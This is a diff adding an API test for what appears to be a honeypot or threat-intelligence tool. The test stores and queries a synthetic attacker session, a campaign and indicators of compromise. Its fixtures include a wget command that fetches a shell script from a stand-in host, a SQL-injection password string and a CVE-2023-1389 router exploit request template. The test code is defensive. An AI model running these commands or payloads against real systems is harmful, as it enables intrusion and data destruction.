@@ -265,6 +265,94 @@ for (const backend of ['sqlite', 'clickhouse'] as const)
       assert.equal(msg.src, '198.18.0.9');
       assert.equal(msg.preview, 'GET / HTTP/1.1..Host: x....');
     });
+
+    test("responder and intel fields: a session's persona, credentials, app, signature; tag=, campaigns, IOCs", async () => {
+      const now = Date.now();
+      const sig = {
+        template: "GET /cgi-bin/luci;stok=<*>/locale?form=country&operation=write&country=$('<*>')",
+        sha256: 'ab'.repeat(32),
+      };
+      const rich = session({
+        src: '198.18.0.7',
+        dport: 2323,
+        persona: 'telnet',
+        sent: [
+          {
+            index: 0,
+            timestamp: new Date(now).toISOString(),
+            data: Buffer.from('login: ').toString('base64'),
+          },
+        ],
+        credentials: [{ username: 'root', password: "x'); DROP TABLE sessions; --\\" }],
+        commands: ['cd /tmp; wget http://198.18.9.9/x.sh'],
+        tags: [
+          { name: 'cve:CVE-2023-1389', confidence: 1 },
+          { name: 'mirai', confidence: 0.8 },
+        ],
+        app: 'http',
+        cves: ['CVE-2023-1389'],
+        rules: ['tplink-luci-rce'],
+        iocs: { urls: ['http://198.18.9.9/x.sh'], hosts: ['198.18.9.9'] },
+        signature: sig,
+      });
+      f.ctx.bus.emit(rich);
+      f.ctx.bus.emit(session({ src: '198.18.0.8', dport: 2323, iocs: { urls: [], hosts: ['198.18.9.9'] } }));
+      f.ctx.bus.emit({
+        type: 'campaign',
+        ts: new Date(now).toISOString(),
+        sensor: 'test',
+        kind: 'new',
+        signature: sig.template,
+        app: 'http',
+        example: 'GET /cgi-bin/luci',
+        tags: ['cve:CVE-2023-1389'],
+        cves: ['CVE-2023-1389'],
+        sources: 3,
+        interval_s: 300,
+        baseline: { mean: 0, sd: 0 },
+        first_seen: new Date(now - 60_000).toISOString(),
+        ports: [2323],
+        series: [0, 3],
+      });
+      await f.settled();
+      await eventually(async () => (await f.json<Page<Row>>('/api/iocs')).total >= 2, 5000);
+      const tagged = await f.json<Page<Row>>('/api/sessions?tag=mirai');
+      assert.equal(tagged.total, 1);
+      assert.equal((await f.json<Page<Row>>('/api/sessions?tag=absent')).total, 0);
+      const bySig = await f.json<Page<Row>>(`/api/sessions?signature=${encodeURIComponent(sig.template)}`);
+      assert.equal(bySig.total, 1);
+      const one = await f.json<Row>(`/api/sessions/${tagged.rows[0]!.id as number}`);
+      const { tags, app, cves, rules, iocs, signature, persona, sent, credentials, commands } = one;
+      assert.deepEqual(
+        { tags, app, cves, rules, iocs, signature, persona, sent, credentials, commands },
+        {
+          tags: rich.tags,
+          app: 'http',
+          cves: rich.cves,
+          rules: rich.rules,
+          iocs: rich.iocs,
+          signature: sig,
+          persona: 'telnet',
+          sent: Buffer.from('login: ').toString('base64'),
+          credentials: rich.credentials,
+          commands: rich.commands,
+        },
+      );
+      const camps = await f.json<Page<Row>>('/api/campaigns');
+      assert.equal(camps.total, 1);
+      assert.equal(camps.rows[0]!.signature, sig.template);
+      const all = await f.json<Page<Row>>('/api/iocs');
+      const host = all.rows.find((r) => r.kind === 'host')!;
+      assert.deepEqual(
+        [host.value, host.sessions, host.sources],
+        ['198.18.9.9', 2, ['198.18.0.7', '198.18.0.8']],
+      );
+      const bySrc = await f.json<Page<Row>>('/api/iocs?src=198.18.0.8');
+      assert.deepEqual(
+        bySrc.rows.map((r) => [r.kind, r.value]),
+        [['host', '198.18.9.9']],
+      );
+    });
   });
 
 describe('live updates under load', () => {
